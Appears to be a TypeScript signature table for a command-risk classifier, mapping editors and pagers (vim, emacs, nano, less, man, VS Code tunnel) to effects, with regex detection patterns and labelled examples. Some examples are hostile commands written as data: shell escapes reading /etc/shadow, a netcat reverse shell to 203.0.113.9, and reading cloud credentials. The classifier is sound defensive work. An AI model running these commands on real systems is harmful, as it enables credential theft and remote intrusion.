// data table
import type { Signature } from './signature.js'

/** Commands of ex that leave the editor. */
const EX = {
  value: 'value',
  forms: { '^\\W{0,4}(?:silent!? *|exe\\w* *["\']?|[%.$0-9,]{0,9}(?:r|w|read|write) *)?!\\s*(.+?)["\']?$': 'command', '^:? *(?:py|py3|pyx|python|python3)\\w* +(.+)': 'code:python', '^:? *lua +(.+)': 'code:lua', '^:? *(?:perl|perldo) +(.+)': 'code:perl', '^:? *(?:ruby|rubydo) +(.+)': 'code:ruby', '^:? *(?:w|write|sav|saveas)!? +(?:>> *)?(.+)': 'write', '^:? *(?:r|read|e|edit|sp|split|vs|tabe) +(.+)': 'read', '^:? *(?:so|source) +(.+)': 'load', '.*system\\(["\'](.+)["\']\\)': 'command' },
} as const

/** Editors and pagers. What they open is seen and changed by a person at a terminal; most can run a command on the way. */
export const EDITORS: readonly Signature[] = [
  {
    names: ['vim', 'vi', 'nvim', 'gvim', 'mvim', 'rvim', 'view', 'rview', 'vimx', 'vim.basic', 'vim.tiny', 'elvis', 'nvi'],
    flags: { '-es, -Es, -ens, -nes': 'switch', '-c, --cmd': EX, '+': EX, '-S, -s': 'use', '-u, -U, -i': 'use', '-w, -W': 'write', '-T, -t, -q, --servername, --remote-send, --remote-expr, --listen, --startuptime, -p, -o, -O': { value: 'value', optional: true } },
    operands: { rest: 'read' }, tags: { '*': 'interactive' }, effects: [{ does: 'write', what: 'path', name: '$operands' }],
    examples: [
      ["vim -c ':!cat /etc/shadow' -c :q", ['read path:password-store']], ["vim +'!nc -e /bin/sh 203.0.113.9 4444'", ['execute process:reverse-shell']], ["nvim -c ':py3 import os'", []],
      ['vim ~/.bashrc', ['write path:shell-startup+interactive', '!append path']], ['vim +42 src/a.ts', ['read path:ordinary+interactive']],
    ],
  },
  { names: ['ex'], flags: { '-c, --cmd': EX, '+': EX, '-S': 'use', '-s, -v': 'switch', '-w': 'write', '-t, -T': 'value' }, operands: { rest: 'read' }, tags: { '*': 'interactive' }, effects: [{ does: 'write', what: 'path', name: '$operands' }], examples: [["ex -s -c '!cat /etc/shadow' -c q", ['read path:password-store']], ['ex -s notes.txt', ['read path:ordinary+interactive']]] },
  {
    names: ['nano', 'pico', 'rnano'], flags: { '-s, --speller': 'command', '-f, --rcfile': 'use', '-r, --fill': 'value', '-T, --tabsize': 'value', '-o, --operatingdir': 'value', '-Y, --syntax': 'value', '-C, --backupdir': 'value', '-Q, --quotestr': 'value', '-X': 'value', '-J': 'value', '+': 'value' }, operands: { rest: 'read' }, tags: { '*': 'interactive' },
    effects: [{ does: 'write', what: 'path', name: '$operands' }],
    examples: [["nano -s 'cat /etc/shadow' x", ['read path:password-store']], ['sudo nano /etc/hosts', ['write path:hosts-file+interactive']], ['nano -T 2 a.md', ['read path:ordinary+interactive']]],
  },
  {
    names: ['emacs', 'emacsclient', 'zile', 'mg', 'jove'], grammar: 'single-dash',
    flags: { '-eval, --eval, -e, --execute': { value: 'value', forms: { '\\((?:shell-command|async-shell-command|shell-command-to-string|call-process|start-process|term|ansi-term) +(?:"[^"]{0,40}" +"[^"]{0,40}" +)?"([^"]+)"': 'command', '\\((?:insert-file-contents|find-file) +"([^"]+)"': 'read' } }, '-l, --load, -load': 'load', '--script, -script': 'load', '-f, --funcall': 'value', '-L, --directory, -d, --display, -T, --title, -u, --user, -s, --socket-name, -a, --alternate-editor': 'value', '+': 'value' },
    operands: { rest: 'read' }, tags: { '*': 'interactive' }, effects: [{ does: 'write', what: 'path', name: '$operands' }],
    examples: [['emacs -Q -nw --eval \'(term "cat /etc/shadow")\'', ['read path:password-store']], ['emacs -nw notes.org', ['read path:ordinary+interactive']]],
  },
  {
    names: ['kak', 'helix', 'hx', 'micro', 'joe', 'jed', 'ne', 'mcedit', 'ed', 'red', 'gedit', 'kate', 'kwrite', 'mousepad', 'subl', 'codium', 'windsurf', 'zed', 'atom', 'idea', 'webstorm', 'pycharm', 'notepadqq', 'geany', 'xed', 'bbedit', 'mate', 'nvim-qt', 'lapce', 'leafpad', 'pluma', 'sensible-editor', 'editor'],
    flags: { '-e, -c': 'value', '-n, -w, -r': 'switch', '-d, --diff': 'switch', '-g, --goto, --encoding, --line, --column': 'value', '--install-extension, --uninstall-extension': 'package', '--extensions-dir, --user-data-dir, --profile, --locale, --log, --add-mcp': 'value', '-l': 'value', '+': 'value' }, operands: { rest: 'read' }, tags: { '*': 'interactive' },
    effects: [{ does: 'write', what: 'path', name: '$operands' }],
    examples: [['codium ~/.zshrc', ['write path:shell-startup+interactive']], ['subl -n src/a.ts', ['read path:ordinary+interactive']]],
  },
  {
    names: ['code', 'code-insiders', 'code-server', 'cursor'],
    flags: { '-n, -w, -r': 'switch', '-d, --diff': 'switch', '-g, --goto': 'value', '--install-extension, --uninstall-extension': 'package', '--extensions-dir, --user-data-dir, --profile, --locale, --log, --add-mcp, --name, --auth, --bind-addr': 'value' }, operands: { rest: 'read' }, tags: { '*': 'interactive' },
    // The tunnel lets whoever has the account of the relay open a shell on this machine (T1219).
    subcommands: { tunnel: { class: 'remote-access', operands: { rest: 'value' }, subcommands: { 'status|unregister|kill|prune|rename|user|help|restart': { class: 'ordinary' } } } },
    effects: [{ does: 'write', what: 'path', name: '$operands' }],
    examples: [['code ~/.zshrc', ['write path:shell-startup+interactive']], ['code tunnel --accept-server-license-terms', ['execute process:remote-access']], ['code tunnel status', []], ['code --version', []]],
  },
  {
    names: ['visudo', 'sudoedit'], flags: { '-f, --file': 'write', '-c, --check': 'switch', '-x': 'write', '-s, -q': 'switch', '-u': 'user' }, operands: { rest: 'write' }, tags: { '*': 'interactive' }, inert: ['-c'],
    effects: [{ does: 'write', what: 'path', class: 'sudoers', name: '/etc/sudoers', tags: ['interactive'], when: { without: ['-f', '-c'], max: 0 } }],
    examples: [['sudo visudo', ['write path:sudoers+interactive']], ['sudoedit /etc/hosts', ['write path:hosts-file+interactive']], ['visudo -c', []]],
  },
  { names: ['vipw', 'vigr'], flags: { '-s, --shadow': 'switch' }, effects: [{ does: 'write', what: 'path', name: '/etc/passwd', tags: ['interactive'], when: { without: ['-s'] } }, { does: 'write', what: 'path', name: '/etc/shadow', tags: ['interactive'], when: { flags: ['-s'] } }], examples: [['vipw -s', ['write path:password-store+interactive']], ['vigr', ['write path:user-database+interactive']]] },
  {
    names: ['less', 'more', 'zless', 'zmore', 'bzless', 'bzmore', 'xzless', 'xzmore', 'lesspipe', 'pg', 'ov', 'moar'],
    flags: { '-o, -O, --log-file': 'write', '-p, --pattern': 'pattern', '-P, --prompt': 'value', '-k, --lesskey-file': 'use', '-j, --jump-target, -h, -y, -z, -x, --tabs, -t, --tag, -T, -b, -D, -#': 'value', '+': { value: 'value', forms: { '^!\\s*(.+)': 'command' } } }, operands: { rest: 'read' }, stdin: 'when-no-operand', stdout: 'content',
    examples: [["less +'!cat /etc/shadow' README", ['read path:password-store']], ['less ~/.aws/credentials', ['read path:cloud-credentials']], ['less +F app.log', ['read path:ordinary']]],
  },
  {
    names: ['man', 'info', 'apropos', 'whatis', 'tldr', 'cheat', 'whereis', 'mandb', 'makeinfo', 'help2man', 'pinfo', 'eg', 'howdoi', 'navi', 'whence', 'manpath', 'locale', 'dict'], stdin: 'ignored', flags: { '-P, --pager': 'command', '-H, --html': { value: 'command', optional: true }, '-M, -C, --config-file, -s, -S, -L, -m, -E, -p, -r, -R, -e, --sections, --manpath, --locale, --language, --platform': 'value', '-o, --output': 'write' },
    examples: [["man -P 'cat /etc/shadow' man", ['read path:password-store']], ['man nmap', []], ['tldr msfvenom', []], ['whereis hydra', []]],
  },
]
